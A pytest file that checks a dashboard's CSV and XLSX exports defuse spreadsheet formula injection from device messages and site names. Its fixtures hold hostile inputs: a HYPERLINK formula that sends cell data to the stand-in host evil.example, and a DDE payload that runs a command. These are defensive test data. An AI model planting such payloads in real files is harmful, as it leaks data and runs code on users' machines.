"""Exports never hand a spreadsheet a formula written by a device or a user.

A site named like a formula and alarms whose device-written messages start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return go through the alarm
history CSV, the data CSV and the data XLSX: every such text arrives quoted
(CSV) or stored as text (XLSX).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import psycopg
import pytest

from kilowatch.alarms import events as alarms
from kilowatch.spreadsheets import text_cell
from tests.dashboards import seed
from tests.dashboards.conftest import call_callback, login, make_site

SITE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
MESSAGES = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
            "plain message"]


@pytest.fixture(scope="module")
def formula_site(tenants, settings):
    """Company A's site named like a formula, with history and one alarm per message."""
    with psycopg.connect(settings.database_url, autocommit=True,
                         row_factory=psycopg.rows.dict_row) as conn:
        site = make_site(conn, tenants.a.id, SITE_NAME)
        device = seed.register(conn, site, "FRM-1")
        seed.seed_history(conn, device, days=1)
        at = datetime.now(UTC) - timedelta(hours=5)
        for n, message in enumerate(MESSAGES):
            alarms.raise_alarm(conn, device_id=device, code=f"CODE_{n}", severity="minor",
                               source="device", message=message, at=at + timedelta(minutes=n))
    return site


def _admin(app, tenants):
    client = app.server.test_client()
    assert login(client, tenants.a.admin.email, tenants.a.admin.password).status_code == 302
    return client


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""), (-3.5, -3.5), (None, None),
])
def test_text_cell_quotes_what_would_start_a_formula(text, cell):
    assert text_cell(text) == cell


def test_alarm_history_csv_quotes_device_text(app, tenants, formula_site):
    values = {"alarm-history-site.value": formula_site, "alarm-history-state.value": "any",
              "alarm-history-ack.value": "any", "alarm-history-export.n_clicks": 1}
    response = call_callback(_admin(app, tenants), app, "alarm-history-download.data", values,
                             triggered="alarm-history-export.n_clicks")
    content = response.get_json()["response"]["alarm-history-download"]["data"]["content"]
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert sorted(r["message"] for r in rows) == sorted(
        m if m == "plain message" else "'" + m for m in MESSAGES)
    assert {r["site"] for r in rows} == {"'" + SITE_NAME}


def test_data_csv_quotes_the_header_and_xlsx_stores_text(app, tenants, formula_site):
    client = _admin(app, tenants)
    query = "range=today&points=bms.soc&resolution=1h"
    response = client.get(f"/export/site/{formula_site}.csv?{query}")
    assert response.status_code == 200
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert header == ["time (Europe/Paris)", "FRM-1 bms.soc (%)"]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/export/site/{formula_site}.xlsx?{query}").get_data()))
    name = book["about"]["B1"]
    assert (name.value, name.data_type) == (SITE_NAME, "s")
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
               for cell in row)
